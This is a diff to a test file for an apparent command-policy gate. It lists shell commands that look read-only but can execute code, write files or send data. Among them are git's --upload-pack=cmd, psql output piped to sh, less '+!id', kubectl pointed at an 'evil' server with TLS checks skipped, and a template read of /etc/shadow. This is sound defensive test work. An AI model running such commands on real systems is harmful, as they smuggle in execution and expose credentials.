@@ -9,17 +9,12 @@ describe('POL: policies', () => {
   test('POL-10 commands known for reading that can execute, write or send (part: what the tool’s own files do)', async () => {
     using gate = new Gate();
     const rows = [
-      ['git', 'status'],
       ['git', 'log', '--output=f'],
-      ['git', 'diff'],
       ['git', 'ls-remote', '--upload-pack=cmd', '.'],
       ['ssh', '-G', 'x'],
-      ['docker', '--help'],
       ['psql', '-l', '-o', '|sh'],
-      ['terraform', 'validate'],
       ['terraform', 'plan'],
-      ['kubectl', 'get', 'pods', '-o', 'go-template-file=/etc/hostname'],
-      ['kubectl', 'get', 'pods', '-o', 'jsonpath-file=/etc/hostname'],
+      ['kubectl', 'get', 'pods', '-o', 'go-template-file=/etc/shadow'],
       ['kubectl', '--profile-output=f', '--profile=heap', 'get', 'pods'],
       ['kubectl', '-s', 'https://evil', '--insecure-skip-tls-verify', 'get', 'cm'],
       ['kubectl', 'config', 'view', '--raw'],
@@ -40,8 +35,6 @@ describe('POL: policies', () => {
       ['less', 'f', '+!id'],
       ['man', '-P', 'sh', 'ls'],
       ['hostname', 'evil'],
-      ['aws', 's3', 'cp', 's3://a/b', '-'],
-      ['aws', 'configure', 'list', '--debug'],
       ['curl', '-o', '/etc/x', 'https://x'],
       ['tee', 'x'],
       ['env'],
